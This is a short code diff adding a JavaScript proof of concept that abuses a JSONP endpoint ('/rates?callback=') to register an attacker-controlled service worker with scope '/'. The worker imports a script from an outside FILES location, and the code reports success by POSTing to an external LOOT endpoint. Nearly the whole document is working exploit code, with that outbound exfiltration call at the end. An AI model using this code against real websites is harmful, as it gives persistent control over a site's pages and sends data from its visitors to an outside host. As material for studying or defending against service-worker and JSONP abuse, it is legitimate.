@@ -1,0 +1,14 @@
+// A service worker must come from the page's own origin; an old JSONP address says whatever its caller wants.
+(async () => {
+  const own = (await navigator.serviceWorker.getRegistration())?.active?.scriptURL ?? "";
+  const call = `globalThis.APP = ${JSON.stringify(own)}; importScripts(${JSON.stringify(`${FILES}worker.js`)});//`;
+  let answer;
+  try {
+    await navigator.serviceWorker.register(`/rates?callback=${encodeURIComponent(call)}`, { scope: "/" });
+    await navigator.serviceWorker.ready;
+    answer = "the worker is there";
+  } catch (error) {
+    answer = `${error.name}, no worker`;
+  }
+  await fetch(LOOT, { method: "POST", mode: "no-cors", body: answer });
+})();
